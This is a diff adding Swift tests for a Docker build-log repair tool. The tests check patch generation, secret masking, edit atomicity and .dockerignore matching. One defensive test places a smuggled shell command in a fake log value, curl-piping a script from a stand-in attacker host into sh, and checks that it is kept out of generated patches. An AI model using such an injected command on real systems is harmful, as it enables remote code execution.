@@ -1,0 +1,141 @@
+import Testing
+
+@testable import StepTimeline
+
+struct RepairTests {
+  /// The lines that a patch takes away and adds.
+  private func changes(_ patch: String) -> [String] {
+    patch.split(separator: "\n").map(String.init).filter {
+      ($0.hasPrefix("-") || $0.hasPrefix("+")) && !$0.hasPrefix("--- ") && !$0.hasPrefix("+++ ")
+    }
+  }
+
+  @Test(arguments: RepairCase.all) func aLogAndItsDockerfileGiveThePatch(_ scenario: RepairCase) throws {
+    let build = try #require(scenario.build())
+    #expect(build.dockerfiles.map(\.fits) == [true])
+    let primary = build.diagnoses.first { $0.isPrimary }
+    let diagnosis = try #require(primary)
+    let patches = diagnosis.fixes.compactMap(\.patch).map(changes)
+    #expect(patches.contains(scenario.changes), "\(diagnosis.rule): \(patches)")
+    // Only what was made for this build comes first.
+    #expect(diagnosis.fixes.first?.patch != nil)
+  }
+
+  @Test(arguments: RepairCase.all) func aRepairedDockerfileIsNotRepairedAgainInTheSameWay(
+    _ scenario: RepairCase
+  ) throws {
+    let build = try #require(scenario.build())
+    let primary = build.diagnoses.first { $0.isPrimary }
+    let diagnosis = try #require(primary)
+    guard let fix = diagnosis.fixes.first(where: { $0.patch.map(changes) == scenario.changes }),
+      let rewrite = fix.rewrites.first(where: { $0.path == "Dockerfile" })
+    else { return }
+    var reader = BuildLogReader(source: "test.log")
+    reader.feed(Array(scenario.log.utf8).span)
+    // The diagnosis as it was before its fixes were made.
+    let fresh = try #require(reader.finish().first)
+    let untouched = fresh.diagnoses.first { $0.rule == diagnosis.rule } ?? diagnosis
+    let finder = SiteFinder(build: build, project: scenario.project)
+    guard
+      let site = finder.site(in: ProjectFiles.Source(path: "Dockerfile", bytes: rewrite.new), for: untouched)
+    else { return }
+    let again = RepairPlan(diagnosis: untouched, site: site, masksSecrets: true).fixes
+    #expect(
+      !again.contains {
+        $0.patch.map(changes) == scenario.changes && scenario.changes.contains { $0.hasPrefix("+") }
+      })
+  }
+
+  @Test func everyRecipeHasACase() {
+    let shown = Set(RepairCase.all.map(\.recipe))
+    let declared = Set(RuleCatalog.all.flatMap(\.repairs))
+    #expect(declared.subtracting(shown).map(\.rawValue).sorted() == [])
+  }
+
+  @Test func aDockerfileOfAnotherBuildIsNotUsed() throws {
+    var scenario = RepairCase.all[0]
+    let log = scenario.log
+    scenario.dockerfile = "FROM debian:bookworm\nRUN something else\n"
+    var reader = BuildLogReader(source: "test.log")
+    reader.feed(Array(log.utf8).span)
+    var build = try #require(reader.finish().first)
+    build.addRepairs(for: scenario.project)
+    #expect(build.dockerfiles == [DockerfileUse(path: "Dockerfile", target: nil, fits: false)])
+    let diagnosis = try #require(build.diagnoses.first)
+    #expect(diagnosis.fixes.allSatisfy { $0.rewrites.isEmpty && ($0.patch == nil || $0.isFromExcerpt) })
+  }
+
+  @Test func withoutADockerfileThePatchIsMadeFromTheExcerpt() throws {
+    let scenario = try #require(RepairCase.all.first { $0.recipe == .answerYes })
+    let build = try #require(scenario.build(with: ProjectFiles()))
+    let fix = try #require(build.diagnoses.first?.fixes.first)
+    #expect(fix.isFromExcerpt)
+    #expect(fix.patch?.hasText("@@ -1,3 +1,3 @@") == true)
+    #expect(fix.applicability == .likely)
+  }
+
+  @Test func aPatchKeepsCarriageReturnsAndAMissingLineEnd() throws {
+    var scenario = try #require(RepairCase.all.first { $0.recipe == .answerYes })
+    scenario.dockerfile = "FROM debian:bookworm\r\nRUN apt-get update\r\nRUN apt-get install vim"
+    let fix = try #require(scenario.build()?.diagnoses.first?.fixes.first)
+    #expect(
+      fix.patch
+        == "--- a/Dockerfile\n+++ b/Dockerfile\n@@ -1,3 +1,3 @@\n FROM debian:bookworm\r\n RUN apt-get update\r\n-RUN apt-get install vim\n\\ No newline at end of file\n+RUN apt-get install -y vim\n\\ No newline at end of file\n"
+    )
+  }
+
+  @Test func aPatchWithASecretIsNotShown() throws {
+    var scenario = try #require(RepairCase.all.first { $0.recipe == .answerYes })
+    scenario.dockerfile =
+      "FROM debian:bookworm\nENV NPM_TOKEN=npm_abcdefghijklmnopqrstuvwxyz0123456789\nRUN apt-get install vim\n"
+    let fix = try #require(scenario.build()?.diagnoses.first?.fixes.first)
+    #expect(fix.patch == nil)
+    #expect(fix.patchNote != nil)
+  }
+
+  @Test func valuesOfTheLogEnterAPatchOnlyInTheirForm() throws {
+    let scenario = RepairCase(
+      .createUser, "FROM debian:bookworm\nCOPY . /www\nRUN chown -R x /www\n", failing: "RUN chown",
+      "chown: invalid user: 'x;curl${IFS}evil.example|sh'")
+    let build = try #require(scenario.build())
+    let fixes = build.diagnoses.flatMap(\.fixes)
+    #expect(fixes.allSatisfy { $0.patch?.hasText("evil.example") != true })
+  }
+
+  @Test func editsAreMadeTogetherOrNotAtAll() {
+    let bytes = Array("abc".utf8)
+    let good = Edit(range: 0..<1, expected: [97], replacement: [65])
+    let bad = Edit(range: 1..<2, expected: [97], replacement: [65])
+    #expect(FileChange(path: "x", old: bytes, edits: [good]).new == Array("Abc".utf8))
+    #expect(FileChange(path: "x", old: bytes, edits: [good, bad]).new == nil)
+    let overlapping = Edit(range: 0..<2, expected: [97, 98], replacement: [])
+    #expect(FileChange(path: "x", old: bytes, edits: [overlapping, good]).new == nil)
+  }
+
+  @Test func changesFarApartAreHunksOfTheirOwn() {
+    let old = (1...30).map { "\($0)\n" }.joined()
+    let new = (1...30).map { $0 == 3 ? "three\n" : $0 == 28 ? "twenty-eight\n29 more\n" : "\($0)\n" }.joined()
+    let patch = String(
+      decoding: UnifiedDiff(path: "f", old: Array(old.utf8), new: Array(new.utf8)).bytes, as: UTF8.self)
+    #expect(patch.hasText("@@ -1,6 +1,6 @@\n 1\n 2\n-3\n+three\n 4\n"))
+    #expect(patch.hasText("@@ -25,6 +25,7 @@\n"))
+  }
+
+  @Test func suggestionsNameTheLinesThatTheyReplace() throws {
+    let scenario = try #require(RepairCase.all.first { $0.recipe == .declareArgument })
+    let fix = try #require(scenario.build()?.diagnoses.first?.fixes.first)
+    let json = ReviewSuggestions(of: fix).json
+    #expect(json.hasText("\"path\": \"Dockerfile\", \"line\": 4, \"side\": \"RIGHT\""))
+    #expect(json.hasText("```suggestion\\nARG HOME_DIR\\nRUN mkdir -p \\\"$HOME_DIR\\\"\\n```"))
+  }
+}
+
+struct ContextFilesTests {
+  @Test(arguments: [
+    ("a/b", "a", true), ("a/b", "b", false), ("a/b", "**/b", true), ("x.log", "*.log", true),
+    ("d/x.log", "*.log", false),
+    ("d/x.log", "**/*.log", true), (".env.sample", ".env*", true), ("a", "a/b", false),
+  ]) func patternsOfDockerignoreMatchPathsAndFoldersAbove(_ path: String, _ pattern: String, _ wanted: Bool) {
+    #expect(ContextFiles.matches(path, pattern) == wanted)
+  }
+}
